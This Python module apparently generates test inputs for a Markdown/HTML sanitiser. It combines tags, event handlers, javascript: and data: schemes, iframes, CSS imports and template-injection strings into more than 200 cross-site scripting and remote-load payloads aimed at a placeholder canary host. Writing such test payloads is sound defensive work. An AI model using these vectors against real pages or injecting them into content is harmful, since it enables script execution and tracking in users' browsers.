"""More than 200 ways to make a page run or load something that somebody else wrote."""

from __future__ import annotations

from itertools import product

CANARY = "canary.example"
MARK = "window.__ran=(window.__ran||0)+1"

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
)
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onpageshow")
_WRAPS = ("{}", "<p>{}</p>", "`{}", "**{}**", "> {}", "- {}", "[a]({})", "![a]({})", "$${}$$")
_SCHEMES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"&#106;avascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    f"http://{CANARY}/a.png",
    f"//{CANARY}/b.png",
    f"https://{CANARY}/c.svg#x",
)
_MARKDOWN = (
    "![x]({})",
    "[x]({})",
    "<{}>",
    "![x][r]\n\n[r]: {}",
    "[x]: {}\n[x]",
    "![x](<{}> 'title')",
    "[![x]({})]({})",
    "| a |\n|---|\n| ![x]({}) |",
)
_SINGLE = (
    f"<script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src=//{CANARY}></iframe>",
    f"<link rel=stylesheet href=//{CANARY}/x.css>",
    f"<style>@import url(//{CANARY}/x.css);</style>",
    f"<div style='background:url(//{CANARY}/x)'>x</div>",
    f"<object data=//{CANARY}/x></object><embed src=//{CANARY}/x>",
    f"<base href=//{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}'>",
    f"<form action=javascript:{MARK}><button autofocus>x</button></form>",
    f"<math><mi xlink:href='javascript:{MARK}'>x</mi></math>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={MARK}>'/></svg>",
    f"${{{MARK}}} {{{{constructor.constructor('{MARK}')()}}}}",
    f"\\href{{javascript:{MARK}}}{{x}} $\\href{{javascript:{MARK}}}{{x}}$",
    f"$$\\includegraphics{{//{CANARY}/t.png}}$$",
    f":material/home: :streamlit: :red[x] :image[//{CANARY}/x]",
    f"http://{CANARY}/bare and www.{CANARY}/bare and //{CANARY}/bare",
    f"<!--><img src=x onerror={MARK}>-->",
    f"<![CDATA[<img src=x onerror={MARK}>]]>",
    f"```html\n<img src=x onerror={MARK}>\n```\n<img src=x onerror={MARK}>",
    f"```mermaid\nclick A \"javascript:{MARK}\"\n```",
    f"[x]{{foreground=\"url(//{CANARY}/x)\"}} :color[x]{{foreground=\"url(//{CANARY}/x)\"}}",
    f"\u202e<img src=x onerror={MARK}>\u202c\u0000",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    tags = [
        f"<{tag} {handler}={MARK}>" for tag, handler in product(_TAGS, _HANDLERS)
    ]  # elements with handlers
    wrapped = [wrap.format(tag) for tag, wrap in product(tags[::5], _WRAPS)]
    links = [mark.format(*[link] * mark.count("{}")) for mark, link in product(_MARKDOWN, _SCHEMES)]
    return list(dict.fromkeys([*_SINGLE, *tags, *wrapped, *links]))
